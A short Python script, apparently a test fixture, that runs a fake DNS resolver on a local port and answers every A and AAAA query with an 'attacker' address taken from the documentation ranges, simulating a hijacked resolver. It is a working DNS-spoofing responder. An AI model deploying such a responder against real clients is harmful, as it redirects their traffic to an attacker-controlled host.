"""Answers every query for an address with the attacker's: what takes the place of a resolver that was killed.

Usage: fake_resolver.py PORT
"""

import socket
import struct
import sys

ADDRESSES = {1: socket.inet_aton("203.0.113.66"), 28: socket.inet_pton(socket.AF_INET6, "2001:db8::66")}

server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", int(sys.argv[1])))
print("the port is taken", flush=True)
while True:
    data, client = server.recvfrom(4096)
    at = 12
    while data[at]:
        at += data[at] + 1
    kind, = struct.unpack_from(">H", data, at + 1)
    address = ADDRESSES.get(kind, b"")
    record = struct.pack(">HHHIH", 0xC00C, kind, 1, 60, len(address)) + address if address else b""
    header = data[:2] + struct.pack(">5H", 0x8180, 1, 1 if record else 0, 0, 0)
    server.sendto(header + data[12:at + 5] + record, client)
